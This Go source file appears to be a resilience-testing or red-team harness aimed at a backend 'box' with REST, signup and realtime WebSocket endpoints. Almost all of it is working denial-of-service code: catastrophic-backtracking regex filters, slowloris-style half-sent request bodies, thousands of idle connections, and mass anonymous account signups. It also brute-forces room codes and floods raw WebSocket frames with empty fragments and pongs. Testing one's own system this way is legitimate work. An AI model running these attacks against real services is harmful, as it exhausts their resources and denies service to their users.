package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"sync"
	"time"

	"github.com/gorilla/websocket"
)

// target is the box as the attacker sees it: with a seat and the box's
// publishable key.
type target struct{ url, from, member, key string }

// attack is something that one device does until ctx ends. Every loop is bounded
// by the time and by its counts.
type attack struct {
	name string
	run  func(ctx context.Context, t target)
}

var attacks = []attack{
	{"filters of changes", filters},
	{"filters of queries", queries},
	{"bodies without an end", bodies},
	{"bodies of broadcasts", posts},
	{"silent connections", silent},
	{"keep-alive connections", keepAlive},
	{"sockets of many users", users},
	{"seats and their sockets", seats},
	{"seats of many browsers", browsers},
	{"presence", presence},
	{"joins", joins},
	{"instrument changes", instruments},
	{"kept messages", kept},
	{"wrong codes over sockets", codes},
	{"empty fragments", fragments},
	{"pongs", pongs},
}

func (t target) dialer() *net.Dialer {
	return &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(t.from)}, Timeout: 5 * time.Second}
}

func (t target) http() *http.Client {
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: t.dialer().DialContext, MaxIdleConnsPerHost: 100}}
}

// host is HOST:PORT of the box.
func (t target) host() string { return strings.TrimPrefix(t.url, "http://") }

// raw opens a connection and writes to it.
func (t target) raw(ctx context.Context, text string) (net.Conn, error) {
	c, err := t.dialer().DialContext(ctx, "tcp", t.host())
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(2 * time.Minute))
	if _, err := io.WriteString(c, text); err != nil {
		_ = c.Close()
		return nil, err
	}
	return c, nil
}

// socket opens a WebSocket with a token, and reads and drops what comes.
func (t target) socket(ctx context.Context, token string) (*websocket.Conn, error) {
	d := websocket.Dialer{NetDialContext: t.dialer().DialContext, HandshakeTimeout: 5 * time.Second}
	ws, resp, err := d.DialContext(ctx, "ws://"+t.host()+"/realtime/v1/websocket?vsn=2.0.0&apikey="+url.QueryEscape(token), nil)
	if err != nil {
		if resp != nil {
			_ = resp.Body.Close()
		}
		return nil, err
	}
	go func() { // ends when the socket does
		for {
			if _, _, err := ws.NextReader(); err != nil {
				return
			}
		}
	}()
	return ws, nil
}

// push is a message of a client, as text.
func push(topic, event string, payload any) []byte {
	raw, err := json.Marshal([]any{"1", "1", topic, event, payload})
	if err != nil {
		panic(err) // a bug: the payloads are made here
	}
	return raw
}

type object = map[string]any

// pause waits, and reports false when ctx ends.
func pause(ctx context.Context, d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
		return true
	case <-ctx.Done():
		return false
	}
}

// sendAll sends messages over a socket, again and again if it ends.
func (t target) sendAll(ctx context.Context, token string, every time.Duration, message func(i int) []byte) {
	for i := 0; ctx.Err() == nil; {
		ws, err := t.socket(ctx, token)
		for ; err == nil && ctx.Err() == nil; i++ {
			_ = ws.SetWriteDeadline(time.Now().Add(5 * time.Second))
			if err = ws.WriteMessage(websocket.TextMessage, message(i)); err == nil && every > 0 {
				pause(ctx, every)
			}
		}
		if ws != nil {
			_ = ws.Close()
		}
		pause(ctx, 100*time.Millisecond)
	}
}

// side runs so many at once.
func side(n int, do func(i int)) {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() { do(i) })
	}
	all.Wait()
}

// costly is a pattern whose program takes 33 KB.
func costly(n int) string { return fmt.Sprintf(`"(.{0,70}){3}%d$"`, n) }

func filters(ctx context.Context, t target) {
	side(4, func(s int) {
		t.sendAll(ctx, t.member, 50*time.Millisecond, func(i int) []byte {
			var changes []object
			for j := range 40 {
				changes = append(changes, object{"event": "*", "schema": "public", "table": "lesson_plans", "filter": "title=match." + costly((i*4+s)*40+j)})
			}
			return push(fmt.Sprint("realtime:plans", i%100), "phx_join", object{"config": object{"postgres_changes": changes}})
		})
	})
}

func queries(ctx context.Context, t target) {
	side(16, func(s int) {
		c := t.http()
		for i := 0; ctx.Err() == nil; i++ {
			var all []string
			for f := range 40 {
				var any []string
				for j := range 10 {
					any = append(any, costly(s*1_000_000+i*400+f*10+j))
				}
				all = append(all, "title=match(any)."+url.QueryEscape("{"+strings.Join(any, ",")+"}"))
			}
			t.ask(ctx, c, "GET", "/rest/v1/lesson_plans?"+strings.Join(all, "&"), "")
		}
	})
}

// ask makes a request as the member, and drops the answer.
func (t target) ask(ctx context.Context, c *http.Client, method, path, body string) int {
	req, err := http.NewRequestWithContext(ctx, method, t.url+path, strings.NewReader(body))
	if err != nil {
		return 0
	}
	req.Header.Set("Authorization", "Bearer "+t.member)
	req.Header.Set("apikey", t.key)
	req.Header.Set("Content-Type", "application/json")
	resp, err := c.Do(req)
	if err != nil {
		return 0
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	_ = resp.Body.Close()
	return resp.StatusCode
}

// unfinished keeps so many connections open on which a text was sent.
func (t target) unfinished(ctx context.Context, n int, text string) {
	side(n, func(int) {
		for ctx.Err() == nil {
			c, err := t.raw(ctx, text)
			if err == nil {
				stop := context.AfterFunc(ctx, func() { _ = c.Close() })
				_, _ = io.Copy(io.Discard, c) // until the box ends it
				stop()
				_ = c.Close()
			}
			pause(ctx, 200*time.Millisecond)
		}
	})
}

func (t target) halfOf(path string, bytes int) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
		path, t.host(), t.member, bytes+1, strings.Repeat(" ", bytes))
}

func bodies(ctx context.Context, t target) {
	t.unfinished(ctx, 1000, t.halfOf("/rest/v1/lesson_plans", 1<<20-1))
}

func posts(ctx context.Context, t target) {
	t.unfinished(ctx, 1000, t.halfOf("/realtime/v1/api/broadcast", 60<<10))
}

func silent(ctx context.Context, t target) { t.unfinished(ctx, 5000, "") }

func keepAlive(ctx context.Context, t target) {
	t.unfinished(ctx, 5000, "GET /healthz HTTP/1.1\r\nHost: "+t.host()+"\r\n\r\n")
}

// users signs up anonymous users, with the member's token as a key and with the
// key, and opens eight sockets for each.
func users(ctx context.Context, t target) {
	var tokens []string
	c := t.http()
	for _, key := range []string{t.member, t.key} {
		for i := 0; i < 200 && ctx.Err() == nil; i++ {
			if token := t.signUp(ctx, c, key); token != "" {
				tokens = append(tokens, token)
			}
		}
	}
	t.hold(ctx, tokens, nil)
}

func (t target) signUp(ctx context.Context, c *http.Client, key string) string {
	req, err := http.NewRequestWithContext(ctx, "POST", t.url+"/auth/v1/signup", strings.NewReader("{}"))
	if err != nil {
		return ""
	}
	req.Header.Set("apikey", key)
	resp, err := c.Do(req)
	if err != nil {
		return ""
	}
	defer func() { _ = resp.Body.Close() }()
	var answer struct {
		Token string `json:"access_token"`
	}
	_ = json.NewDecoder(resp.Body).Decode(&answer)
	return answer.Token
}

// hold keeps eight sockets open for each token, and sends a message over each
// again and again, if there is one.
func (t target) hold(ctx context.Context, tokens []string, message func(i int) []byte) {
	every := 100 * time.Millisecond
	if message == nil {
		every = 10 * time.Second
		message = func(int) []byte { return push("realtime:lobby", "phx_join", object{"config": object{}}) }
	}
	side(8*len(tokens), func(i int) { t.sendAll(ctx, tokens[i/8], every, message) })
}

// takeSeats takes as many seats as the box gives.
func (t target) takeSeats(ctx context.Context, n int) []string {
	return t.takeSeatsAs(ctx, t.http(), n)
}

// browsers takes seats as so many browsers, each with a cookie of its own if the box
// gives it one.
func browsers(ctx context.Context, t target) {
	var tokens []string
	for range 64 {
		c := t.http()
		c.Jar, _ = cookiejar.New(nil) // never fails without options
		if resp, err := c.Get(t.url + "/join"); err == nil {
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
		}
		tokens = append(tokens, t.takeSeatsAs(ctx, c, 2)...)
		c.CloseIdleConnections()
	}
	t.hold(ctx, tokens, joinRoom(nil))
}

func (t target) takeSeatsAs(ctx context.Context, c *http.Client, n int) (tokens []string) {
	for range n {
		resp, err := c.Post(t.url+"/box/v1/join", "application/json", strings.NewReader(`{"code":"`+room+`"}`))
		if err != nil {
			continue
		}
		var seat struct{ Token string }
		if json.NewDecoder(resp.Body).Decode(&seat) == nil && seat.Token != "" {
			tokens = append(tokens, seat.Token)
		}
		_ = resp.Body.Close()
		pause(ctx, 10*time.Millisecond)
	}
	return tokens
}

// joinRoom is the first message of a socket, and then others.
func joinRoom(then func(i int) []byte) func(i int) []byte {
	return func(i int) []byte {
		if i%50 == 0 || then == nil {
			return push("realtime:music_room:"+room, "phx_join", object{"config": object{"presence": object{"enabled": true}}})
		}
		return then(i)
	}
}

func seats(ctx context.Context, t target) { t.hold(ctx, t.takeSeats(ctx, 48), joinRoom(nil)) }

func presence(ctx context.Context, t target) {
	text := strings.Repeat("x", 7000)
	t.hold(ctx, t.takeSeats(ctx, 10), joinRoom(func(i int) []byte {
		return push("realtime:music_room:"+room, "presence", object{"type": "presence", "event": "track", "payload": object{"text": fmt.Sprint(i, text)}})
	}))
}

func joins(ctx context.Context, t target) {
	side(8, func(int) {
		t.sendAll(ctx, t.member, 0, func(i int) []byte {
			return push(fmt.Sprint("realtime:lobby", i%100), "phx_join", object{"config": object{}})
		})
	})
}

func instruments(ctx context.Context, t target) {
	kinds := []string{"piano", "marimba"}
	t.hold(ctx, t.takeSeats(ctx, 4), joinRoom(func(i int) []byte {
		return push("realtime:music_room:"+room, "broadcast", object{"type": "broadcast", "event": "assign_instrument", "payload": object{"instrument": kinds[i%2]}})
	}))
}

func kept(ctx context.Context, t target) {
	side(8, func(s int) {
		c := t.http()
		for i := 0; ctx.Err() == nil; i++ {
			t.ask(ctx, c, "POST", fmt.Sprintf("/realtime/v1/api/broadcast/music_room:%s:t%d-%d/events/e?private=true&persist=true", room, s, i), `{"x":1}`)
		}
	})
}

func codes(ctx context.Context, t target) {
	side(8, func(s int) {
		t.sendAll(ctx, t.key, 0, func(i int) []byte {
			return push(fmt.Sprintf("realtime:music_room:WORD-%04d", (i*8+s)%10_000), "phx_join", object{"config": object{}})
		})
	})
}

// flood writes the same bytes over a socket's connection for ever.
func (t target) flood(ctx context.Context, bytes string) {
	side(5, func(int) {
		for ctx.Err() == nil {
			ws, err := t.socket(ctx, t.member)
			for err == nil && ctx.Err() == nil {
				_ = ws.NetConn().SetWriteDeadline(time.Now().Add(5 * time.Second))
				_, err = io.WriteString(ws.NetConn(), bytes)
			}
			if ws != nil {
				_ = ws.Close()
			}
			pause(ctx, 100*time.Millisecond)
		}
	})
}

func fragments(ctx context.Context, t target) {
	t.flood(ctx, "\x01\x80\x00\x00\x00\x00"+strings.Repeat("\x00\x80\x00\x00\x00\x00", 1000)+"\x80\x80\x00\x00\x00\x00")
}

func pongs(ctx context.Context, t target) {
	t.flood(ctx, strings.Repeat("\x8a\x80\x00\x00\x00\x00", 1000))
}
